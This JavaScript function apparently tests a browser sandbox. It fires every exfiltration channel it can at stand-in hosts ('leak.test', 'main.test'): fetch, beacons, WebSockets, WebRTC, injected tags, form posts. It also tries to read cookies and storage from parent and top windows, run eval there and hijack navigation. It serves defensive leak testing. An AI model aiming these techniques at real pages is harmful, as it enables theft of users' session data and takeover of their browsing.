// All ways out of a page that a script has, by the functions of a window `w`.
function attack(way, w) {
  const to = (name, scheme = "http") => `${scheme}://${name}-${way}.leak.test/${name}-${way}`;
  const main = name => `http://main.test/?hostile=${name}-${way}`;
  const page = w.document;
  const seen = what => {
    try {
      let list = window.document.getElementById("seen");
      if (!list) {
        list = window.document.createElement("ul");
        list.id = "seen";
        window.document.documentElement.append(list);
      }
      list.append(`${way}: ${what}; `);
    } catch {}
  };
  seen("began");
  const element = (name, attributes) => {
    const made = page.createElement(name);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    (page.body ?? page.documentElement).append(made);
    return made;
  };
  const all = [
    () => w.fetch(to("fetch"), {mode: "no-cors"}).catch(() => {}),
    () => w.fetch(to("post"), {method: "POST", mode: "no-cors", body: "x", keepalive: true}).catch(() => {}),
    () => { const x = new w.XMLHttpRequest(); x.open("GET", to("xhr")); x.send(); },
    () => w.navigator.sendBeacon(to("beacon"), "x"),
    () => { new w.WebSocket(to("socket", "ws")); },
    () => { new w.EventSource(to("events")); },
    () => { new w.Image().src = to("image"); },
    () => { new w.WebTransport("https://transport.leak.test:4433/"); },
    () => element("script", {src: to("script")}),
    () => element("link", {rel: "stylesheet", href: to("style")}),
    () => element("link", {rel: "preconnect", href: to("preconnect")}),
    () => element("link", {rel: "dns-prefetch", href: to("dns")}),
    () => element("link", {rel: "prefetch", href: to("prefetch")}),
    () => element("iframe", {src: to("iframe")}),
    () => element("object", {data: to("object")}),
    () => element("embed", {src: to("embed")}),
    () => element("video", {src: to("video")}),
    () => { const made = element("a", {href: "#", ping: to("ping")}); made.click(); },
    () => { const made = element("form", {action: to("form"), method: "post", target: "none"}); element("iframe", {name: "none"}); made.submit(); },
    () => { page.body.style.background = `url(${to("css")})`; },
    () => { new w.FontFace("x", `url(${to("font")})`).load().catch(() => {}); },
    () => { page.body.insertAdjacentHTML("beforeend", `<img src=${to("html")}>`); },
    () => { page.body.insertAdjacentHTML("beforeend", `<iframe src="javascript:new Image().src='${to("js-url")}'"></iframe>`); },
    () => { page.cookie = "hostile=1; path=/"; page.cookie = "hostile2=1; domain=localhost; path=/"; page.cookie = "hostile3=1; domain=127.0.0.1; path=/"; },
    () => { w.localStorage.setItem("hostile", "1"); w.sessionStorage.setItem("hostile", "1"); },
    () => { w.indexedDB.open("hostile"); },
    () => { w.caches.open("hostile"); },
    () => { w.name = "hostile"; },
    // Our own pages, their JSON, and whatever they keep.
    () => w.fetch(main("fetch"), {mode: "no-cors", credentials: "include"}).then(answer => answer.text()).then(text => seen(`main ${text.length}`)).catch(() => {}),
    () => w.fetch(main("cors"), {credentials: "include"}).then(answer => answer.text()).then(text => seen(`main read ${text.length}`)).catch(() => {}),
    () => w.fetch(`http://main.test/-/api/archive?hostile=api-${way}`, {mode: "no-cors"}).catch(() => {}),
    () => { const x = new w.XMLHttpRequest(); x.open("GET", main("xhr")); x.send(); },
    () => w.navigator.sendBeacon(main("beacon")),
    () => { new w.Image().src = main("image"); },
    () => { const made = element("iframe", {src: main("iframe")}); made.onload = () => { try { seen(made.contentDocument.body.textContent); } catch {} }; },
    () => element("script", {src: main("script")}),
    () => { new w.WebSocket(main("socket").replace("http:", "ws:")); },
    // Of a window that has an address of its own.
    ...(["blank", "natives"].includes(way) ? [] : [() => w.parent, () => w.top, () => w.parent.parent, () => w.opener, () => w.top.opener, () => w.frameElement, () => w.top.frames[0]]).flatMap(get => [
      () => seen(get().document.cookie),
      () => seen(get().document.body.textContent),
      () => seen(get().localStorage.length),
      () => seen(get().location.href),
      () => seen(get().name),
      () => { get().name = "hostile"; },
      () => get().eval("console.log('ran')"),
    ]),
    () => seen(page.cookie),
    () => seen(JSON.stringify(w.localStorage)),
    () => seen(w.name),
    () => w.indexedDB.databases().then(all => seen(JSON.stringify(all))),
    () => seen(w.document.referrer),
    () => { w.document.domain = "localhost"; },
    () => { new w.BroadcastChannel("asof").postMessage({hostile: way}); },
    // A candidate's address is found out by asking a server.
    () => {
      const peer = new w.RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:3478"}, {urls: "turn:127.0.0.1:3478?transport=tcp", username: "x", credential: "x"}]});
      peer.createDataChannel("x");
      peer.createOffer().then(offer => peer.setLocalDescription(offer)).catch(() => {});
    },
  ];
  if (way === "page") {
    all.push(() => { const made = element("form", {action: main("form"), method: "post", target: "other"}); element("iframe", {name: "other"}); made.submit(); });
  }
  // These may lead away, so that they come last.
  const last = [
    () => w.history.pushState(null, "", "/hostile-pushed"),
    () => { const made = element("a", {href: to("download"), download: "x"}); made.click(); },
    () => w.open(to("open")),
    () => w.open(to("open-top"), "_top"),
    () => w.open(to("open-parent"), "_parent"),
    () => { w.top.location = to("top"); },
    () => { w.parent.location.href = to("parent"); },
    () => { w.top.location.replace("javascript:console.log('ran')"); },
    () => w.top.history.back(),
    () => w.top.close(),
    () => { const made = element("a", {href: to("blank"), target: "_blank", rel: "opener"}); made.click(); },
    () => { const made = element("a", {href: to("link-top"), target: "_top"}); made.click(); },
    () => { const made = element("form", {action: to("form-top"), target: "_top"}); made.submit(); },
  ];
  const run = each => {
    try {
      Promise.resolve(each()).catch(() => {});
    } catch {}
  };
  all.forEach(run);
  setTimeout(() => last.forEach(run), 1500);
}
